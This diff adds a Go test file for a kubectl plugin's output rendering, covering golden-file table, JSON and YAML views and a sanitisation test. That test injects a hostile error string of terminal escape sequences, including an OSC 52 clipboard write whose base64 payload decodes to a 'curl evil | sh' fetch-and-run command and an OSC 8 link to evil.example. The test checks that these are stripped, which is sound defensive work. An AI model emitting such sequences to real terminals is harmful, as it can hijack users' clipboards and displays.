@@ -1,0 +1,175 @@
+package render
+
+import (
+	"bytes"
+	"flag"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"sigs.k8s.io/yaml"
+
+	"github.com/hrretry/kubectl-hrretry/pkg/inspect"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files")
+
+var testNow = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
+
+// fleet is one release per phase, from the inspect fixtures.
+var fleet = []string{"ready", "retrying-upgrade", "retrying-install-template-error", "remediating-rollback",
+	"stalled-retries-exceeded", "stall-trap", "suspended", "waiting-dependency", "progressing", "failed-values",
+	"retrying-overdue", "pending"}
+
+func states(t *testing.T, names ...string) []inspect.RetryState {
+	t.Helper()
+	out := make([]inspect.RetryState, 0, len(names))
+	for _, n := range names {
+		y, err := os.ReadFile(filepath.Join("..", "inspect", "testdata", "states", n+".yaml"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		j, err := yaml.YAMLToJSON(y)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out = append(out, inspect.AnalyzeJSON(j, testNow, inspect.DefaultSettings()))
+	}
+	return out
+}
+
+// golden compares got with testdata/golden/<name>, or rewrites it with -update.
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("testdata", "golden", name)
+	if *update {
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test ./pkg/render -update)", err)
+	}
+	if !bytes.Equal(got, want) {
+		t.Errorf("%s differs from the golden file (go test ./pkg/render -update to accept):\n--- got\n%s\n--- want\n%s", name, got, want)
+	}
+}
+
+var (
+	tty   = Options{Now: testNow, Color: true, Relative: true, Width: 200, ShowNamespace: true}
+	piped = Options{Now: testNow, ShowNamespace: true}
+)
+
+func TestGoldenViews(t *testing.T) {
+	all := states(t, fleet...)
+	views := []struct {
+		name   string
+		render func(*bytes.Buffer) error
+	}{
+		{"table-tty.golden", func(b *bytes.Buffer) error { return Table(b, all, tty) }},
+		{"table-tty-narrow.golden", func(b *bytes.Buffer) error { o := tty; o.Width = 100; return Table(b, all, o) }},
+		{"table-tty-nocolor.golden", func(b *bytes.Buffer) error { o := tty; o.Color = false; return Table(b, all, o) }},
+		{"table-piped.golden", func(b *bytes.Buffer) error { return Table(b, all, piped) }},
+		{"table-no-headers.golden", func(b *bytes.Buffer) error { o := piped; o.NoHeaders = true; return Table(b, all, o) }},
+		{"table-wide.golden", func(b *bytes.Buffer) error { o := piped; o.Wide = true; return Table(b, all, o) }},
+		{"list.json", func(b *bytes.Buffer) error { return JSON(b, all[:3], false) }},
+		{"single.json", func(b *bytes.Buffer) error { return JSON(b, all[1:2], true) }},
+		{"list.yaml", func(b *bytes.Buffer) error { return YAML(b, all[:3], false) }},
+		{"names.golden", func(b *bytes.Buffer) error { return Names(b, all) }},
+		{"empty.json", func(b *bytes.Buffer) error { return JSON(b, nil, false) }},
+		{"empty.golden", func(b *bytes.Buffer) error {
+			_, err := b.WriteString(NoneFound("apps", false) + "\n" + NoneFound("", true) + "\n")
+			return err
+		}},
+	}
+	for _, v := range views {
+		t.Run(v.name, func(t *testing.T) {
+			var b bytes.Buffer
+			if err := v.render(&b); err != nil {
+				t.Fatal(err)
+			}
+			golden(t, v.name, b.Bytes())
+		})
+	}
+}
+
+func TestGoldenDetail(t *testing.T) {
+	for _, name := range []string{"retrying-upgrade", "remediating-rollback", "stalled-retries-exceeded", "stall-trap",
+		"force-not-honoured", "ready"} {
+		st := states(t, name)[0]
+		for _, mode := range []struct {
+			suffix string
+			o      Options
+		}{{"tty", tty}, {"piped", piped}} {
+			t.Run(name+"-"+mode.suffix, func(t *testing.T) {
+				var b bytes.Buffer
+				if err := Detail(&b, st, mode.o); err != nil {
+					t.Fatal(err)
+				}
+				golden(t, "detail-"+name+"-"+mode.suffix+".golden", b.Bytes())
+			})
+		}
+	}
+}
+
+// sgr matches the colour sequences render itself emits.
+var sgr = regexp.MustCompile("\x1b\\[[0-9;:]*m")
+
+// TestNothingRawReachesTheScreen: a Helm error can carry ESC sequences,
+// carriage returns, OSC 8 links and OSC 52 clipboard writes. None of them
+// may reach the terminal from the table or the detail view; JSON keeps them.
+func TestNothingRawReachesTheScreen(t *testing.T) {
+	hostile := "upgrade failed: \x1b[2J\x1b[31mred\x1b[0m\rOVERWRITE \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 " +
+		"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u009b31m c1-csi \u009d0;title\u009c bell\x07 bs\b \u202eevil\u202c \xff"
+	st := states(t, "retrying-upgrade")[0]
+	st.Message, st.Summary = hostile, hostile
+	st.Conditions[0].Message = hostile
+	st.WayOut = []string{hostile}
+	st.Warnings = []inspect.Warning{{Code: "X", Message: hostile}}
+	st.History[0].Status = hostile
+	for _, o := range []Options{tty, piped, {Now: testNow, Wide: true}} {
+		var b bytes.Buffer
+		if err := Table(&b, []inspect.RetryState{st}, o); err != nil {
+			t.Fatal(err)
+		}
+		if err := Detail(&b, st, o); err != nil {
+			t.Fatal(err)
+		}
+		out := sgr.ReplaceAllString(b.String(), "")
+		if !o.Color && out != b.String() {
+			t.Errorf("colour sequences in uncoloured output")
+		}
+		for _, bad := range []string{"\x1b", "\r", "\x07", "\b", "\u009b", "\u009d", "\u009c", "\u202e", "\xff"} {
+			if strings.Contains(out, bad) {
+				t.Errorf("options %+v: raw %q reached the output:\n%q", o, bad, out)
+			}
+		}
+	}
+	var j bytes.Buffer
+	if err := JSON(&j, []inspect.RetryState{st}, true); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(j.String(), `\u001b]52;c;`) {
+		t.Errorf("JSON must keep the raw message (JSON-escaped), got %s", j.String())
+	}
+}
+
+func TestHuman(t *testing.T) {
+	for d, want := range map[time.Duration]string{
+		0: "0s", 45 * time.Second: "45s", 192 * time.Second: "3m12s", 5 * time.Minute: "5m",
+		2*time.Hour + 5*time.Minute: "2h5m", 50 * time.Hour: "2d2h", -90 * time.Second: "1m30s",
+		1499 * time.Millisecond: "1s",
+	} {
+		if got := Human(d); got != want {
+			t.Errorf("Human(%s) = %q, want %q", d, got, want)
+		}
+	}
+}
